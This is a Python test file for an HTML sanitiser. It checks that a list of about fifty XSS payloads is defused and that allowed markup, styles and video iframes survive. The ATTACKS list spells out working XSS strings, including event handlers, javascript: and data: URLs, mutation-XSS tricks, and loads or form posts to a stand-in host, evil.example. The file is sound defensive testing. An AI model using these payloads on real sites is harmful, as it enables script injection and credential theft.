"""The sanitiser against a corpus of attacks: nothing that executes, loads or escapes remains, and legitimate markup
does."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from pathlib import Path

import pytest

from kit.values.richtext import ATTRIBUTES, FRAMES, SCHEMES, STYLES, TAGS, depth, excerpt, plain, sanitise

ATTACKS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' &#106;avascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='blob:https://x/1'>x</a>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe src='https://evil.example/'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src='https://www.youtube.com.evil.example/'></iframe>",
    "<p onclick=alert(1)>x</p>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style='background-color: url(https://evil.example/a)'>x</p>",
    "<p style='width: expression(alert(1))'>x</p>",
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%'>x</p>",
    "<p style='behavior:url(x.htc)'>x</p>",
    "<div style='-moz-binding:url(x.xml)'>x</div>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href='//evil.example/'>",
    "<form action=//evil.example><input name=password></form>",
    "<object data=x.swf></object><embed src=x.swf>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<template><script>alert(1)</script></template>",
    "<xmp><p title='</xmp><script>alert(1)</script>'></xmp>",
    "<p title='\"><script>alert(1)</script>'>x</p>",
    "<table><td background='javascript:alert(1)'>x</td></table>",
    "<a href='https://ok.example' onmouseover=alert(1) target=_top>x</a>",
    "<<script>alert(1);//<</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<p>\x00<scr\x00ipt>alert(1)</script></p>",
    "<isindex action=javascript:alert(1) type=image>",
    "<font color='red\" onclick=\"alert(1)'>x</font>",
)


class Markup(HTMLParser):
    """A browser's view of the result: elements and their attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))


@pytest.mark.parametrize("attack", ATTACKS)
def test_attack_is_defused(attack: str) -> None:
    clean = sanitise(attack)
    for tag, attributes in Markup(clean).elements:
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES["*"] | ATTRIBUTES.get(tag, set()) | {"rel"}
        for name in {"href", "src"} & set(attributes):
            link = attributes[name]
            assert re.match(r"(https?|ftp|mailto):|[^:]*$", link), link
            assert "evil.example" not in link or tag == "a"
        assert "(" not in attributes.get("style", "")
        properties = {part.split(":")[0].strip() for part in attributes.get("style", "").split(";") if part}
        assert properties <= STYLES
    assert sanitise(clean) == clean, "a second pass finds nothing more"


def test_allowed_markup_stays() -> None:
    html = (
        '<h2>Plan</h2><p style="color:red"><b>bold</b> <em>and</em> <a href="https://ok.example" '
        'target="_blank" rel="noopener noreferrer nofollow">link</a></p>'
        '<table><tbody><tr><td colspan="2">x</td></tr></tbody></table><ul><li>1</li></ul><hr><blockquote>q</blockquote>'
        "<pre><code>c</code></pre><p>H<sub>2</sub>O<sup>+</sup></p>"
    )
    assert sanitise(html) == html


def test_video_frames_stay_and_others_go() -> None:
    kept = sanitise('<iframe src="https://www.youtube.com/embed/x" width="200"></iframe>')
    assert "youtube.com/embed/x" in kept
    assert "src" not in sanitise('<iframe src="https://www.youtube.evil/embed/x"></iframe>')


def test_video_hosts_match_editor_and_gateway() -> None:
    """If the sanitiser kept what a browser then blocks, an empty box would remain."""
    root = Path(__file__).parents[3]
    editor = (root / "web/libs/ui/src/richtext/sanitise.ts").read_text()
    (listed,) = re.findall(r"const frames = \[([^\]]*)\]", editor)
    assert tuple(re.findall(r'"([^"]+)"', listed)) == FRAMES
    gateway = (root / "gateway/dynamic/common.yml").read_text()
    (policy,) = re.findall(r"frame-src ([^;]*);", gateway)
    assert [entry for entry in policy.split() if entry.startswith("https:")] == [one.rstrip("/") for one in FRAMES]


@pytest.mark.parametrize(
    "markup",
    [
        '<table style="width: 99999px"></table>',
        '<table width="99999"></table>',
        '<p style="width:1e9px">x</p>',
        '<p style="margin-left:-9999px">x</p>',
        '<p style="padding-left: 500em">x</p>',
        '<p style="width:101%">x</p>',
        '<p style="height:100vh">x</p>',
        '<p style="font-size:.1e7PX">x</p>',
        '<iframe width="100000" height="9999"></iframe>',
        '<table><tbody><tr><td colspan="100000">x</td></tr></tbody></table>',
        '<table width="wide"></table>',
        '<ol start="99999999"><li>x</li></ol>',
    ],
)
def test_oversized_lengths_are_removed(markup: str) -> None:
    for _, attributes in Markup(sanitise(markup)).elements:
        assert attributes == {}


@pytest.mark.parametrize(
    "markup",
    [
        '<table style="width:100%;border:1px solid #99aabbcc"></table>',
        '<p style="width:640px;font-size:1.25em;font-weight:700;line-height:1.5">x</p>',
        '<p style="color:rgb(255, 255, 255);background-color:#123456">x</p>',
        '<p style="font-family:Univers45">x</p>',
        '<table width="50%" border="1" cellpadding="4"></table>',
        '<ol start="7" type="a"><li>x</li></ol>',
        '<font size="+2" color="#ff0000">x</font>',
    ],
)
def test_lengths_of_a_page_stay(markup: str) -> None:
    assert sanitise(markup) == markup


def test_depth_counts_open_elements() -> None:
    assert depth("words") == 0
    assert depth("<p>a<br>b</p><p><b>c</b></p>") == 2
    assert depth('<p title="a > b <i>">x</p>') == 1
    assert depth(sanitise("<ul><li>" * 30 + "x")) == 60


def test_allow_lists_match_the_spec() -> None:
    """`platform.md 5`: headings, p, a, lists, b, i, strong, em, table parts, pre, iframe, font, sup, sub, u, span,
    div, code, hr, br, blockquote; http, https, ftp, mailto."""
    assert {"h1", "h6", "p", "a", "ul", "ol", "b", "table", "pre", "iframe", "font", "sup", "hr", "blockquote"} <= TAGS
    assert TAGS.isdisjoint({"img", "script", "style", "form", "svg", "video"})
    assert {"http", "https", "ftp", "mailto"} == SCHEMES
    assert not any(name.startswith("on") for names in ATTRIBUTES.values() for name in names)


def test_plain_text_has_no_markup() -> None:
    assert plain("<p>One</p><p>two &amp; <b>three</b><br>four</p>") == "One two & three four"
    assert plain("<p><br></p>") == ""


@pytest.mark.parametrize("html", ["<p>a\ud800b</p>", "\udc00", "<a href='http://x/\udfff'>a</a>"])
def test_half_a_character_is_accepted(html: str) -> None:
    assert "?" in sanitise(html)
    assert plain(html)


def test_excerpt_is_cut_at_its_length() -> None:
    assert excerpt("A short word", 12) == "A short word"
    assert excerpt("A short word", 9) == "A short…"
